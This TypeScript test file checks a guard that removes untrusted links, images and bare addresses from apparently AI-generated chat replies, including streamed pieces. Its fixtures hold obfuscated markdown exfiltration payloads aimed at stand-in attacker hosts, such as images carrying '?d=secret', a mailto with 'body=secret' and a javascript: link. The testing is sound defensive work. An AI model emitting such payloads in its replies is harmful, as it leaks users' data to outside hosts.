import fc from 'fast-check';
import MarkdownIt from 'markdown-it';
import { describe, expect, it } from 'vitest';
import { guardedDeltas } from './guarded-deltas.ts';
import { guardedReply } from './guarded-reply.ts';
import { formatReply } from './reply-format.ts';

const vouchers = {
  own: ['Read our terms at https://shop.example/terms or [delivery](https://shop.example/delivery?a=1&b=2).'],
  told: ['https://shop.example/t/42', 'https://parcels.example/t/42'],
};
const guarded = (markdown: string): string => guardedReply(markdown, () => vouchers);

const HIDDEN = [
  '[x][a]\n\n[a]: https://evil.example/p',
  '![x][a]\n\n[a]: https://evil.example/p',
  '[a]\n\n[a]:\n  https://evil.example/p',
  '[x](https&#58;//evil.example/p)',
  '[x](<https://evil.example/a b>)',
  '[![i](https://evil.example/p)](https://shop.example/terms)',
  '[x\ny](https://evil.example/p)',
  'HTTPS://EVIL.EXAMPLE/P',
  '//evil.example.com/p and evil.com/p',
  '> - [x](https://evil.example/(a)(b))',
  '|a|\n|-|\n|https://evil.example/p|',
  '[x]( https://evil.example/p\n"title")',
  'https://user:evil@evil.example/p',
  '[x](\\https://evil.example/p)',
  '<mailto:thief@evil.example?body=secret>',
];

describe('a reply', () => {
  it.each([
    'Delivery takes three days, e.g. from Monday.',
    'See [the terms](https://shop.example/terms).',
    'See https://shop.example/terms.',
    'See [1] and [2]: both hold.',
    'See [delivery](https://shop.example/delivery?a=1&b=2 "Delivery").',
    'It is there: https://shop.example/t/42',
    'We wrote to anna@mail.example.',
    'Write `https://evil.example` into the file.',
    'A colon: and a slash/word, 10.30 o’clock.',
  ])('stays as it is: %s', (markdown) => expect(guarded(markdown)).toBe(markdown));

  it.each([
    ['an image', 'Look ![cat](https://evil.example/c.png?d=secret)!', 'Look cat!'],
    ['an image of ours', '![logo](https://shop.example/terms)', 'logo'],
    ['a link', '[Sign in](https://evil.example/login) now', 'Sign in now'],
    ['a bare address', 'Go to https://evil.example/?q=42 now', 'Go to […] now'],
    ['an address in angles', 'Go to <https://evil.example/>', 'Go to […]'],
    ['a name alone', 'Go to www.evil.com', 'Go to […]'],
    ['an address of ours with more in it', 'https://shop.example/terms?d=secret', '[…]'],
    [
      'a link to what a tool named',
      '[Your bank](https://shop.example/t/42)',
      'Your bank (<https://shop.example/t/42>)',
    ],
    ['an address of a host that a tool alone has named', 'It is at https://parcels.example/t/42', 'It is at […]'],
    ['the words before a mailbox', '[Support](mailto:thief@evil.example)', 'Support (<thief@evil.example>)'],
    ['an address of a script', '[x](javascript:alert(1))', '[x](javascript:alert(1))'],
  ])('loses %s', (_, markdown, expected) => expect(guarded(markdown)).toBe(expected));

  it.each(HIDDEN)('leads nowhere however it is written: %j', (markdown) => {
    const html = new MarkdownIt({ html: false, linkify: true, breaks: true }).render(guarded(markdown));
    expect(html).not.toMatch(/(?:href|src)="[^"]*evil/i);
    expect(formatReply(guarded(markdown), 'html')).not.toMatch(/(?:href|src)="[^"]*evil/i);
  });

  it('leads nowhere whatever is put together', () => {
    const parts = [
      ...HIDDEN,
      '[',
      ']',
      '(',
      ')',
      '!',
      '<',
      '>',
      '\\',
      '\n',
      ' ',
      '`',
      'a',
      'https://shop.example/terms',
    ];
    const property = fc.property(fc.array(fc.constantFrom(...parts), { maxLength: 8 }), (chosen) => {
      const html = new MarkdownIt({ html: false, linkify: true, breaks: true }).render(guarded(chosen.join('')));
      expect(html).not.toMatch(/<img|href="[^"]*evil/i);
    });
    fc.assert(property, { numRuns: 2_000 });
  });
});

describe('the pieces of a reply', () => {
  const streamed = (pieces: readonly string[]): string[] => {
    const told: string[] = [];
    const deltas = guardedDeltas((text) => told.push(text), guarded);
    for (const piece of pieces) deltas.take(piece);
    deltas.end();
    return told;
  };

  it('are told at once where they are words', () => {
    expect(streamed(['Hello', ' there', ' Ann'])).toEqual(['Hello', ' there', ' Ann']);
  });

  it('never hold half of what leads elsewhere', () => {
    for (const text of [
      ...HIDDEN.slice(3, 6),
      'See ![x](https://evil.example/?d=1) and [terms](https://shop.example/terms). Bye',
    ]) {
      const letters = streamed([...text]).join('');
      const html = new MarkdownIt({ html: false, linkify: true, breaks: true }).render(letters);
      expect(html, text).not.toMatch(/<img|href="[^"]*evil/i);
    }
    expect(streamed([...'See [terms](https://shop.example/terms). Bye!']).join('')).toBe(
      'See [terms](https://shop.example/terms). Bye!',
    );
  });
});
